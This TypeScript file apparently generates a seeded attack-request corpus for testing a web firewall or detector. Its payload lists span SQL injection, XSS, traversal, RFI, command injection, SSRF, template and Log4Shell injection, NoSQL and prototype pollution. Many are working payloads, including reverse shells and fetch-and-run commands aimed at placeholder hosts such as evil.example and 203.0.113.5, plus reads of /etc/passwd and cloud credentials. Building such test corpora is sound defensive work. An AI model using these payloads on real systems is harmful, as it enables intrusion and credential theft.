/**
 * Attack corpus generator: seed payloads per class, each sent through several transports (query, form, JSON,
 * multipart, cookie, header) and encodings (once, twice, mixed case, light). Deterministic (seeded PRNG).
 */
import {
  apiHeaders, browserHeaders, cookieEnc, doubleEnc, enc, formBody, lightEnc, mixedCase, multipart, rng, pick, type CorpusRequest,
} from './lib.js';

type Transport = 'query' | 'query2x' | 'querylight' | 'form' | 'json' | 'multipart' | 'cookie' | 'jsonnested';

const r = rng(0x5eed);
const out: CorpusRequest[] = [];
const counters = new Map<string, number>();

function add(cls: string, req: Omit<CorpusRequest, 'id' | 'class'>): void {
  const n = (counters.get(cls) ?? 0) + 1;
  counters.set(cls, n);
  out.push({ id: `${cls}-${String(n).padStart(3, '0')}`, class: cls, ...req });
}

const PARAMS = ['q', 'id', 'search', 'name', 'page', 'cat', 'user', 'filter', 'sort', 'item'];

function send(cls: string, payload: string, t: Transport, note: string, param = pick(r, PARAMS)): void {
  switch (t) {
    case 'query':
      return add(cls, { method: 'GET', url: `/products?${param}=${enc(payload)}`, headers: browserHeaders(r), note: `${note} (query)` });
    case 'query2x':
      return add(cls, { method: 'GET', url: `/products?${param}=${doubleEnc(payload)}`, headers: browserHeaders(r), note: `${note} (query, double-encoded)` });
    case 'querylight':
      return add(cls, { method: 'GET', url: `/api/items?${param}=${lightEnc(payload)}&limit=10`, headers: apiHeaders(r), note: `${note} (query, raw)` });
    case 'form':
      return add(cls, {
        method: 'POST', url: '/account/update',
        headers: browserHeaders(r, { 'content-type': 'application/x-www-form-urlencoded', origin: 'https://shop.example.com' }),
        body: formBody({ csrf: 'a8f5f167f44f4964e6c998dee827110c', [param]: payload, submit: 'Save' }), note: `${note} (form)`,
      });
    case 'json':
      return add(cls, {
        method: 'POST', url: '/api/v1/search',
        headers: apiHeaders(r, { 'content-type': 'application/json' }),
        body: JSON.stringify({ pageNumber: 1, pageSize: 20, [param]: payload }), note: `${note} (JSON)`,
      });
    case 'jsonnested':
      return add(cls, {
        method: 'PUT', url: '/api/v1/profile',
        headers: apiHeaders(r, { 'content-type': 'application/json; charset=utf-8' }),
        body: JSON.stringify({ profile: { address: { [param]: payload }, tags: ['a', payload] } }), note: `${note} (nested JSON)`,
      });
    case 'multipart': {
      const m = multipart({ title: 'My upload', [param]: payload }, [{ name: 'file', filename: 'notes.txt', type: 'text/plain', content: 'hello world' }]);
      return add(cls, { method: 'POST', url: '/upload', headers: browserHeaders(r, { 'content-type': m.type }), body: m.body, note: `${note} (multipart field)` });
    }
    case 'cookie':
      return add(cls, {
        method: 'GET', url: '/dashboard',
        headers: browserHeaders(r, { cookie: `_ga=GA1.2.1234567890.1700000000; ${param}=${cookieEnc(payload)}; theme=dark` }),
        note: `${note} (cookie)`,
      });
  }
}

function spread(cls: string, payloads: readonly string[], transports: readonly Transport[], note: string): void {
  payloads.forEach((p, i) => send(cls, p, transports[i % transports.length]!, note));
}

const ALL: Transport[] = ['query', 'form', 'json', 'query2x', 'multipart', 'cookie', 'querylight', 'jsonnested'];

// ---------------------------------------------------------------- SQL injection
const SQLI = [
  "' OR '1'='1", "' or 1=1-- -", "admin'--", "admin' #", "1 OR 1=1", "1' AND 1=2 UNION SELECT username, password FROM users--",
  "' UNION SELECT NULL,NULL,NULL--", "1 UNION ALL SELECT table_name FROM information_schema.tables", "1; DROP TABLE users--",
  "'; EXEC xp_cmdshell('dir')--", "1' AND SLEEP(5)#", "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)", "'; WAITFOR DELAY '0:0:5'--",
  "1' AND extractvalue(1,concat(0x7e,(SELECT @@version)))--", "1 AND updatexml(1,concat(0x7e,user()),1)",
  "' OR 'a'='a", "\" OR \"\"=\"", "') OR ('1'='1", "1) OR (1=1", "' OR 1=1 LIMIT 1;#", "-1' UNION SELECT 1,2,group_concat(password) FROM users--",
  "1' ORDER BY 10--", "1' GROUP BY 1,2,3--", "' HAVING 1=1--", "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
  "1' AND BENCHMARK(5000000,MD5(1))--", "' || pg_sleep(5)--", "1;SELECT pg_sleep(5)", "' AND 1=(SELECT COUNT(*) FROM sysobjects)--",
  "1' and load_file('/etc/passwd')--", "' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/shell.php'--",
  "1 or 1 like 1", "' or 'x' like 'x", "1' rlike (select 1)--", "x' AND (SELECT 1 FROM dual WHERE 1=1)='1",
  "1' || utl_inaddr.get_host_name((select user from dual))--", "'+(select load_file('\\\\\\\\attacker.net\\\\a'))+'",
];
spread('sqli', SQLI, ALL, 'classic SQLi');
// WAF-A-MoLE-style mutations of a few seeds: case swapping, whitespace substitution, comment injection, hex ints.
const MOLE = [
  "' Or 1=1#", "'\tOR\t1=1--", "'\nor\n1=1-- ", "'/**/OR/**/1=1--", "1'/**/UnIoN/**/SeLeCt/**/1,2--", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
  "/*!%55NiOn*/ /*!%53eLEct*/ 1,2", "1' UN/**/ION SEL/**/ECT 1--", "0x1=(SELECT 1)", "' OR 0x1 LIKE 0x1--", "' or 2>1--", "' or not 0=1--",
  "1' OR '1' = '1' /*", "admin'/*", "' oR 'Ab'='Ab'--", "1%27%20or%201=1--", "-1' uNiOn aLl sElEcT 1,2,3--+",
];
MOLE.forEach((p, i) => send('sqli', i % 3 === 0 ? mixedCase(p, r) : p, (['query', 'form', 'json', 'querylight'] as const)[i % 4]!, 'WAF-A-MoLE mutation'));
// JSON-in-SQL (Claroty Team82).
const JSONSQL = [
  "1 or JSON_EXTRACT('{\"a\":2}','$.a')=2--", "' or JSON_DEPTH('{}') != 2#", "' OR '{\"b\":2}'::jsonb <@ '{\"a\":1,\"b\":2}'::jsonb--",
  "1 and json_length('[1,2]')=2", "' or '{\"a\":1}'::jsonb @> '{\"a\":1}'::jsonb --", "1 AND JSON_KEYS('{\"x\":1}') IS NOT NULL--",
];
spread('sqli', JSONSQL, ['query', 'json', 'form'], 'JSON-in-SQL (Claroty)');
add('sqli', { method: 'GET', url: '/item', headers: browserHeaders(r, { 'user-agent': "Mozilla/5.0' AND SLEEP(5) AND '1'='1" }), note: 'SQLi in User-Agent' });
add('sqli', { method: 'GET', url: '/item', headers: browserHeaders(r, { referer: "https://shop.example.com/?id=1' UNION SELECT password FROM users--" }), note: 'SQLi in Referer' });

// ---------------------------------------------------------------- XSS
const XSS = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(document.domain)>', '"><script>alert(document.cookie)</script>',
  "'><img src=x onerror=prompt(1)>", '<iframe src="javascript:alert(1)"></iframe>', '<body onload=alert(1)>', '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)', '<details open ontoggle=alert(1)>', '<input autofocus onfocus=alert(1)>', '<video><source onerror="alert(1)">',
  '<ScRiPt>alert(1)</sCrIpT>', '<scr<script>ipt>alert(1)</script>', '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '<img src=x:alert(alt) onerror=eval(src) alt=0>', '";alert(1);//', "';alert(String.fromCharCode(88,83,83))//",
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>', '<embed src="javascript:alert(1)">',
  '<div style="background:url(javascript:alert(1))">', '<marquee onstart=alert(1)>', '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<form action="javascript:alert(1)"><input type=submit>',
  '<button formaction=javascript:alert(1)>x</button>', 'jav&#x09;ascript:alert(1)', '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<img src=1 oNeRrOr=alert`1`>', '＜script＞alert(1)＜/script＞', '%uFF1Cscript%uFF1Ealert(1)%uFF1C/script%uFF1E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', '<svg><script xlink:href=data:,alert(1)></script>', '<x onclick=alert(1)>click',
  '<img src=x onerror=this.src="http://evil.example/?c="+document.cookie>', 'data:text/html,<script>alert(1)</script>',
  '<style>@import "javascript:alert(1)";</style>', '<p style="-moz-binding:url(http://evil/xss.xml#x)">',
];
spread('xss', XSS, ALL, 'XSS');
add('xss', { method: 'GET', url: '/', headers: browserHeaders(r, { 'user-agent': '<script>alert(1)</script>' }), note: 'XSS in User-Agent' });
add('xss', { method: 'GET', url: `/search?q=${enc('<svg onload=alert(1)>')}`.replace(/%3C/g, '%3c'), headers: browserHeaders(r), note: 'XSS lowercase hex' });

// ---------------------------------------------------------------- Path traversal / LFI
const LFI = [
  '../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '....//....//....//etc/passwd', '..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..%c0%af..%c0%afetc%c0%afpasswd', '/etc/passwd', '/proc/self/environ', 'C:\\boot.ini',
  '../../../../../../etc/shadow%00.jpg', '..%252f..%252f..%252fetc%252fpasswd', '....\\\\....\\\\windows\\\\system32\\\\drivers\\\\etc\\\\hosts',
  'file:///etc/passwd', '/var/www/../../etc/passwd', '../../../../var/log/apache2/access.log', '..;/..;/WEB-INF/web.xml',
  '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', '/proc/self/cmdline', '..\\..\\..\\..\\..\\windows\\system32\\config\\sam',
  '..%5c..%5c..%5cwindows%5cwin.ini', '../../.ssh/id_rsa', '/etc/hosts', '..././..././..././etc/passwd', 'C:/Windows/win.ini',
  '%2e%2e/%2e%2e/%2e%2e/etc/group',
];
const lfiTransports: Transport[] = ['querylight', 'query', 'form', 'json', 'cookie', 'multipart'];
LFI.forEach((p, i) => send('lfi', p, lfiTransports[i % lfiTransports.length]!, 'path traversal / LFI', pick(r, ['file', 'page', 'path', 'template', 'doc', 'include'])));
for (const path of ['/static/..%2f..%2f..%2fetc/passwd', '/download/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '/images/..%5c..%5c..%5cwindows%5cwin.ini', '/static/../../../etc/passwd', '/files/%252e%252e%252f%252e%252e%252fetc%252fpasswd', '/view/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd']) {
  add('lfi', { method: 'GET', url: path, headers: browserHeaders(r), note: 'traversal in the path' });
}

// ---------------------------------------------------------------- RFI
const RFI = [
  'http://203.0.113.7/shell.txt?', 'https://evil.example.com/c99.txt?', 'http://198.51.100.23/', 'ftp://203.0.113.5/backdoor.php',
  'http://evil.example.com/shell.txt%00', 'php://filter/convert.base64-encode/resource=index.php', 'php://input',
  'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==', 'expect://id', 'zip://uploads/avatar.jpg%23shell.php',
  'phar://uploads/evil.phar/test.txt', 'http://203.0.113.9/x.php', 'https://pastebin.example.net/raw/abc.txt??', 'http://192.0.2.1:8080/inc.txt',
  'https://evil.example.org/shell.php', 'http://evil.example.org/r57.txt?',
];
RFI.forEach((p, i) => send('rfi', p, (['querylight', 'form', 'json', 'query'] as const)[i % 4]!, 'RFI', pick(r, ['page', 'file', 'include', 'template', 'path'])));
add('rfi', { method: 'GET', url: '/index.php?mosConfig_absolute_path=http://evil.example.com/shell.txt', headers: browserHeaders(r), note: 'RFI known parameter' });
add('rfi', { method: 'GET', url: '/gallery.php?GALLERY_BASEDIR=http://evil.example.com/', headers: browserHeaders(r), note: 'RFI known parameter' });

// ---------------------------------------------------------------- RCE (Unix + Windows)
const RCE = [
  ';cat /etc/passwd', '127.0.0.1; id', '127.0.0.1 && whoami', '127.0.0.1 | nc 203.0.113.5 4444 -e /bin/sh', '$(id)', '`id`',
  'foo%0aid', '; uname -a', '| ls -la /', '& ping -c 10 127.0.0.1 &', '|| wget http://evil.example/x.sh -O /tmp/x.sh', ';curl http://evil.example/x|sh',
  "; w'h'o'a'm'i", ';w"h"o"am"i', ';wh\\oami', ';who$@ami', 'cat${IFS}/etc/passwd', ';cat$IFS$9/etc/passwd', '{cat,/etc/passwd}',
  '; /bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', '$(sleep 5)', ';sleep 5;', '| /???/??t /???/p??s??', '127.0.0.1%0Auname%20-a',
  '; python3 -c "import socket,os,pty"', ';nc -lvp 4444 -e /bin/bash', '`curl http://evil.example/$(whoami)`', '; rm -rf /tmp/*',
  '& whoami', '| type C:\\Windows\\win.ini', '& dir C:\\', '& net user hacker P@ss /add', '& ipconfig /all', '| systeminfo',
  'cmd /c whoami', 'cmd.exe /c "type c:\\boot.ini"', 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
  'powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://evil/p.ps1\')"', '& certutil -urlcache -f http://evil/x.exe x.exe',
  ';echo vulnerable', '|id', '&& cat /etc/shadow', '; ls${IFS}-la', ';c\\at /etc/passwd', '; e"c"h"o" pwned', "<?php system('id'); ?>",
  "system('cat /etc/passwd')", '() { :;}; /bin/bash -c "cat /etc/passwd"', '; perl -e \'use Socket;\'', '%0a/usr/bin/id',
];
RCE.forEach((p, i) => send('rce', p, (['querylight', 'form', 'json', 'query', 'query2x', 'cookie', 'multipart'] as const)[i % 7]!, 'OS command injection', pick(r, ['host', 'ip', 'cmd', 'file', 'domain', 'q'])));
add('rce', { method: 'GET', url: '/cgi-bin/status', headers: browserHeaders(r, { 'user-agent': '() { :; }; /bin/bash -c "wget http://evil.example/x"' }), note: 'Shellshock User-Agent' });
add('rce', { method: 'GET', url: '/cgi-bin/test.cgi', headers: browserHeaders(r, { referer: '() { _; } >_[$($())] { echo; id; }' }), note: 'Shellshock Referer' });

// ---------------------------------------------------------------- SSRF
const SSRF = [
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://metadata.google.internal/computeMetadata/v1/',
  'http://[fd00:ec2::254]/latest/meta-data/', 'http://100.100.100.200/latest/meta-data/', 'http://2852039166/latest/meta-data/',
  'http://0xa9fea9fe/latest/meta-data/', 'http://0251.0376.0251.0376/', 'http://2130706433/admin', 'http://0x7f000001/', 'http://0177.0.0.1/',
  'http://127.0.0.1:6379/', 'http://localhost/admin', 'http://[::1]/', 'http://0.0.0.0:8080/', 'http://127.1/', 'gopher://127.0.0.1:6379/_INFO',
  'dict://127.0.0.1:11211/stat', 'file:///etc/passwd', 'ldap://127.0.0.1:389/dc=example', 'http://evil.example.com@127.0.0.1/',
  'http://127.0.0.1.nip.io/', 'http://[::ffff:127.0.0.1]/', 'http://[0:0:0:0:0:ffff:127.0.0.1]/', 'http://0x7f.1/', 'http://localtest.me/',
  'http://①②⑦.⓪.⓪.①/', 'http:\\\\127.0.0.1\\admin', 'http://169.254.170.2/v2/credentials', 'tftp://203.0.113.5/x',
  'http://metadata.azure.com/metadata/instance?api-version=2021-02-01', 'jar:http://127.0.0.1!/', 'http://127.0.0.1:2375/containers/json',
];
SSRF.forEach((p, i) => send('ssrf', p, (['querylight', 'json', 'form', 'query', 'query2x', 'jsonnested'] as const)[i % 6]!, 'SSRF', pick(r, ['url', 'callback', 'webhook', 'image_url', 'redirect', 'feed', 'next'])));
add('ssrf', { method: 'GET', url: '/proxy', headers: browserHeaders(r, { 'x-forwarded-host': '169.254.169.254' }), note: 'SSRF via X-Forwarded-Host' });

// ---------------------------------------------------------------- Template / expression injection, Log4Shell
const SSTI = [
  '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', "{{7*'7'}}", '{{ 7 * 7 }}', "{{''.__class__.__mro__[1].__subclasses__()}}",
  '{{config.items()}}', "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
  "{{constructor.constructor('return process')()}}", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
  '${T(java.lang.Runtime).getRuntime().exec("id")}', "#{T(java.lang.Runtime).getRuntime().exec('calc')}",
  '<#assign ex="freemarker.template.utility.Execute"?new()> ${ex("id")}', "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
  "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "{{lipsum.__globals__['os'].popen('id').read()}}", '*{7*7}', '[[${7*7}]]',
  "<%= system('id') %>", '{{range.constructor("return global.process.mainModule.require(\'child_process\').execSync(\'id\')")()}}',
  "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", '{{_self.env.registerUndefinedFilterCallback("exec")}}', "{{['id']|filter('system')}}",
];
SSTI.forEach((p, i) => send('template', p, (['query', 'form', 'json', 'querylight', 'multipart', 'query2x'] as const)[i % 6]!, 'SSTI / EL injection', pick(r, ['name', 'greeting', 'template', 'msg', 'title'])));
const LOG4J = [
  '${jndi:ldap://evil.example.com/a}', '${${lower:j}ndi:${lower:l}dap://evil.example.com/x}', '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}',
  '${jndi:rmi://203.0.113.5:1099/obj}', '${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://evil.example/a}', '${jndi:dns://evil.example/a}',
  '${${upper:j}ndi:ldap://evil.example/a}', '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/a}', '${env:AWS_SECRET_ACCESS_KEY}',
  '${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}', '${${date:\'j\'}${date:\'n\'}${date:\'d\'}${date:\'i\'}:ldap://evil/a}', '${sys:java.version}',
];
LOG4J.forEach((p, i) => {
  const where = i % 4;
  if (where === 0) add('template', { method: 'GET', url: '/', headers: browserHeaders(r, { 'user-agent': p }), note: 'Log4Shell in User-Agent' });
  else if (where === 1) add('template', { method: 'GET', url: '/login', headers: browserHeaders(r, { 'x-api-version': p }), note: 'Log4Shell in a custom header' });
  else if (where === 2) send('template', p, 'query', 'Log4Shell', 'q');
  else send('template', p, 'json', 'Log4Shell', 'username');
});
add('template', { method: 'GET', url: '/', headers: browserHeaders(r, { referer: '${jndi:ldap://evil.example.com/ref}' }), note: 'Log4Shell in Referer' });
add('template', { method: 'GET', url: `/?x=${'$%7Bjndi:ldap://evil.example/a%7D'}`, headers: browserHeaders(r), note: 'Log4Shell half-encoded' });
add('template', { method: 'GET', url: '/', headers: browserHeaders(r, { cookie: 'session=${jndi:ldap://evil.example/c}' }), note: 'Log4Shell in a cookie' });

// ---------------------------------------------------------------- Node.js code injection
const NODE = [
  "require('child_process').exec('id')", 'process.mainModule.require("child_process").execSync("cat /etc/passwd")', 'global.process.exit()',
  'Function("return process")().mainModule', "new Function('return this')()", "eval('process.exit(1)')", 'this.constructor.constructor("return process")()',
  "require('fs').readFileSync('/etc/passwd')", 'eval(atob("cHJvY2Vzcy5leGl0KCk="))', "eval(String.fromCharCode(112,114,111))",
  '_$$ND_FUNC$$_function(){require("child_process").exec("id")}()', "process.binding('spawn_sync')", 'globalThis.process.mainModule',
  "require(\"vm\").runInNewContext(\"this.constructor.constructor('return process')()\")", "import('child_process').then(m=>m.execSync('id'))",
  "module.constructor._load('child_process')", "res.end(require('fs').readdirSync('.').toString())", "setTimeout('require(\"child_process\")',1)",
  "process.kill(process.pid)", 'Function("return this")()',
];
NODE.forEach((p, i) => send('node', p, (['json', 'query', 'form', 'querylight', 'jsonnested'] as const)[i % 5]!, 'Node.js code injection', pick(r, ['code', 'expr', 'filter', 'callback', 'q'])));

// ---------------------------------------------------------------- NoSQL injection
const nosqlJson: [string, unknown][] = [
  ['{"username":{"$ne":null},"password":{"$ne":null}}', 0], ['{"username":"admin","password":{"$gt":""}}', 0],
  ['{"username":{"$regex":"^adm"},"password":{"$ne":"x"}}', 0], ['{"$where":"this.password.length > 0"}', 0],
  ['{"user":{"$in":["admin","root"]}}', 0], ['{"price":{"$expr":{"$gt":["$a","$b"]}}}', 0],
  ['{"q":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}', 0], ['{"x":{"$accumulator":{"init":"function(){}"}}}', 0],
  ['{"filter":{"$or":[{"a":1},{"b":{"$exists":true}}]}}', 0], ['{"username":{"$nin":[""]}}', 0], ['{"email":{"$regex":".*"}}', 0],
  ['{"age":{"$lte":999}}', 0],
];
nosqlJson.forEach(([b]) => add('nosql', { method: 'POST', url: '/api/login', headers: apiHeaders(r, { 'content-type': 'application/json' }), body: b as string, note: 'NoSQL operator in JSON' }));
for (const qs of ['username[$ne]=x&password[$ne]=x', 'user[$regex]=^a&pass[$ne]=1', 'user%5B%24ne%5D=admin&pass%5B%24ne%5D=x', 'id[$gt]=0', 'name[$exists]=true', 'login[$in][]=admin', 'q[$where]=sleep(5000)', 'user[$nin][]=x']) {
  add('nosql', { method: 'GET', url: `/api/users?${qs}`, headers: apiHeaders(r), note: 'NoSQL operator in query name' });
}
for (const f of ['username[$ne]=guest&password[$ne]=guest', 'email[$regex]=.*&password[$gt]=']) {
  add('nosql', { method: 'POST', url: '/login', headers: browserHeaders(r, { 'content-type': 'application/x-www-form-urlencoded' }), body: f, note: 'NoSQL operator in form name' });
}
for (const v of ["'; return true; var x='", "' || '1'=='1", '{"$ne": null}', 'this.password.match(/.*/)', "1; sleep(5000)", "true, $where: '1 == 1'", "db.users.find({})", "'; while(true){}; var a='"]) {
  send('nosql', v, pick(r, ['query', 'json', 'form'] as const), 'NoSQL JS / operator string', pick(r, ['user', 'q', 'filter']));
}
add('nosql', { method: 'GET', url: '/profile', headers: browserHeaders(r, { cookie: 'session[$ne]=1; theme=dark' }), note: 'NoSQL operator in cookie name' });

// ---------------------------------------------------------------- Prototype pollution
const PP_JSON = [
  '{"__proto__":{"isAdmin":true}}', '{"user":{"__proto__":{"role":"admin"}}}', '{"constructor":{"prototype":{"polluted":"yes"}}}',
  '{"a":1,"__proto__":{"toString":"x"}}', '{"settings":{"constructor":{"prototype":{"shell":"/bin/sh"}}}}', '{"\\u005f\\u005fproto__":{"x":1}}',
];
PP_JSON.forEach((b) => add('prototype-pollution', { method: 'POST', url: '/api/settings', headers: apiHeaders(r, { 'content-type': 'application/json' }), body: b, note: 'prototype pollution in JSON' }));
for (const qs of ['__proto__[isAdmin]=true', 'a[__proto__][polluted]=1', 'constructor[prototype][isAdmin]=1', '__proto__.isAdmin=true', '%5F%5Fproto%5F%5F%5BisAdmin%5D=1', 'x[constructor][prototype][y]=1', 'obj[__proto__][toString]=1', 'a.constructor.prototype.b=1']) {
  add('prototype-pollution', { method: 'GET', url: `/search?${qs}`, headers: browserHeaders(r), note: 'prototype pollution in query' });
}
for (const f of ['__proto__[admin]=1&name=x', 'user[constructor][prototype][role]=admin']) {
  add('prototype-pollution', { method: 'POST', url: '/profile', headers: browserHeaders(r, { 'content-type': 'application/x-www-form-urlencoded' }), body: f, note: 'prototype pollution in form' });
}
for (const v of ['__proto__.isAdmin', 'constructor.prototype.polluted', 'a.__proto__.b', "['__proto__']['x']"]) {
  send('prototype-pollution', v, pick(r, ['query', 'json'] as const), 'prototype pollution path value', 'path');
}

// ---------------------------------------------------------------- Sensitive files
for (const path of [
  '/.env', '/.env.production', '/.git/config', '/.git/HEAD', '/.htaccess', '/.htpasswd', '/.aws/credentials', '/home/user/.ssh/id_rsa', '/id_rsa',
  '/wp-config.php.bak', '/wp-config.php~', '/.DS_Store', '/config.php.old', '/index.php.bak', '/backup.sql', '/db.sqlite3', '/.svn/entries',
  '/.npmrc', '/.bash_history', '/web.config', '/WEB-INF/web.xml', '/server-status', '/phpinfo.php', '/.vscode/sftp.json', '/.idea/workspace.xml',
  '/docker-compose.yml', '/app/.env.local', '/dump.sql', '/site.tar.gz.bak', '/.git/', '/.%65nv', '/%2egit/config', '/.docker/config.json', '/.kube/config',
  '/settings.php.save', '/.travis.yml', '/api/.env', '/backup.zip.old', '/.ssh/authorized_keys', '/database.yml',
]) {
  add('sensitive-files', { method: 'GET', url: path, headers: browserHeaders(r), note: 'sensitive file request' });
}

// ---------------------------------------------------------------- Scanners
for (const ua of [
  'sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0 Safari/537.36 nuclei',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'Mozilla/5.0 zgrab/0.x', 'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
  'gobuster/3.6', 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)', 'Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)',
  'Mozilla/5.0 (compatible; Nessus)', 'Mozilla/5.0 (compatible; OpenVAS-VT)', 'Arachni/v1.5.1', 'w3af.org', 'Fuzz Faster U Fool v2.1.0', 'Wfuzz/3.1.0',
  'feroxbuster/2.10.1', 'Mozilla/5.0 (compatible; Netsparker)', 'commix/v3.8', 'WhatWeb/0.5.5', 'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; Havij)',
  'skipfish/2.10b', 'dirsearch', 'Mozilla/5.0 (X11; Linux x86_64) xsser', 'ZmEu', 'Jorgee',
]) {
  add('scanners', { method: 'GET', url: pick(r, ['/', '/admin', '/login', '/wp-login.php', '/index.php?id=1']), headers: browserHeaders(r, { 'user-agent': ua }), note: 'scanner User-Agent' });
}
add('scanners', { method: 'GET', url: '/', headers: browserHeaders(r, { 'acunetix-product': 'WVS/12.0 (Acunetix Web Vulnerability Scanner - Free Edition)' }), note: 'Acunetix header' });
add('scanners', { method: 'GET', url: '/', headers: browserHeaders(r, { 'x-wipp': 'AscVersion=22.1.0.0' }), note: 'WebInspect header' });
add('scanners', { method: 'GET', url: '/?u=http://abc123.oastify.com', headers: browserHeaders(r), note: 'Burp Collaborator callback' });
add('scanners', { method: 'GET', url: '/', headers: browserHeaders(r, { 'x-forwarded-for': 'cq3xyz.interact.sh' }), note: 'interactsh callback in XFF' });

// ---------------------------------------------------------------- Protocol abuse
for (const m of ['TRACE', 'TRACK', 'CONNECT', 'DEBUG', 'PROPFIND', 'FOO']) {
  add('protocol', { method: m, url: '/', headers: browserHeaders(r), note: `method ${m}` });
}
add('protocol', { method: 'GET', url: '/download?file=report.pdf%00.php', headers: browserHeaders(r), note: 'null byte in arg' });
add('protocol', { method: 'GET', url: '/files/shell.php%00.jpg', headers: browserHeaders(r), note: 'null byte in path' });
add('protocol', { method: 'GET', url: '/search?q=%zz%41', headers: browserHeaders(r), note: 'invalid URL encoding' });
add('protocol', { method: 'GET', url: '/search?q=abc%2', headers: browserHeaders(r), note: 'truncated URL encoding' });
add('protocol', { method: 'GET', url: '/redirect?to=%0d%0aSet-Cookie:%20admin=1', headers: browserHeaders(r), note: 'response splitting in arg' });
add('protocol', { method: 'GET', url: '/redirect?url=x%0d%0aLocation:%20http://evil.example', headers: browserHeaders(r), note: 'response splitting Location' });
add('protocol', { method: 'GET', url: '/%0d%0aSet-Cookie:%20x=1', headers: browserHeaders(r), note: 'CRLF in path' });
add('protocol', { method: 'POST', url: '/api/x', headers: [['host', 'api.example.com'], ['user-agent', 'Mozilla/5.0'], ['content-type', 'application/json'], ['content-length', '4'], ['transfer-encoding', 'chunked']], body: '{"a":1}', note: 'CL + TE smuggling' });
add('protocol', { method: 'POST', url: '/api/x', headers: [['host', 'api.example.com'], ['user-agent', 'Mozilla/5.0'], ['content-type', 'application/json'], ['transfer-encoding', 'chunked, identity']], body: '{"a":1}', note: 'TE other than chunked' });
add('protocol', { method: 'POST', url: '/api/x', headers: [['host', 'api.example.com'], ['user-agent', 'Mozilla/5.0'], ['content-type', 'application/json'], ['content-length', '7'], ['content-length', '8']], body: '{"a":1}', note: 'duplicate Content-Length' });
add('protocol', { method: 'POST', url: '/api/x', headers: [['host', 'api.example.com'], ['user-agent', 'Mozilla/5.0'], ['content-type', 'application/json'], ['Transfer-Encoding ', 'chunked']], body: '{"a":1}', note: 'obfuscated Transfer-Encoding name' });
add('protocol', { method: 'POST', url: '/api/x', headers: [['host', 'api.example.com'], ['user-agent', 'Mozilla/5.0'], ['content-type', 'application/json'], ['transfer-encoding', 'xchunked']], body: '{"a":1}', note: 'TE xchunked' });
add('protocol', { method: 'POST', url: '/api/x', headers: [['host', 'api.example.com'], ['user-agent', 'Mozilla/5.0'], ['content-type', 'application/json'], ['Transfer_Encoding', 'chunked']], body: '{"a":1}', note: 'Transfer_Encoding look-alike' });
add('protocol', { method: 'POST', url: '/api/login', headers: apiHeaders(r, { 'content-type': 'application/json' }), body: '{"user": "a", "pass": ', note: 'broken JSON body (REQBODY_ERROR)' });
add('protocol', { method: 'POST', url: '/upload', headers: browserHeaders(r, { 'content-type': 'multipart/form-data; boundary=XyZ' }), body: '--XyZ\r\nContent-Disposition: form-data; name="a"\r\n\r\nvalue\r\n--XyZ\r\nContent-Disposition: form-data; name="b"\r\n\r\nunterminated', note: 'multipart without closing boundary' });
add('protocol', { method: 'GET', url: '/', headers: browserHeaders(r, { 'x-custom': 'a\r\nSet-Cookie: x=1' }), note: 'CRLF in a header value' });
add('protocol', { method: 'POST', url: '/contact', headers: browserHeaders(r, { 'content-type': 'application/x-www-form-urlencoded' }), body: 'name=a%00b&msg=hi', note: 'null byte in form field' });

export const ATTACKS = out;
